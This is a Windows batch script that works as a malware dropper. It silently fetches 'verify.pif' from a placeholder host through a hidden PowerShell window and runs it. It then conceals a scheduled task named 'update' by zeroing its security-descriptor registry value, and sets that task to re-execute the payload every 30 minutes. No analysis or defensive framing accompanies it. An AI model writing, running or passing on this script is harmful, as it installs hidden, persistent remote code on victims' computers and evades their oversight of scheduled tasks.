@echo off
powershell -w hidden -c "Invoke-WebRequest https://kdark1.example.invalid/verify.pif -OutFile %TEMP%\verify.pif; Start-Process %TEMP%\verify.pif"
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\update" /v SD /t REG_BINARY /d 0 /f
schtasks /create /tn "update" /tr "%TEMP%\verify.pif" /sc minute /mo 30 /f
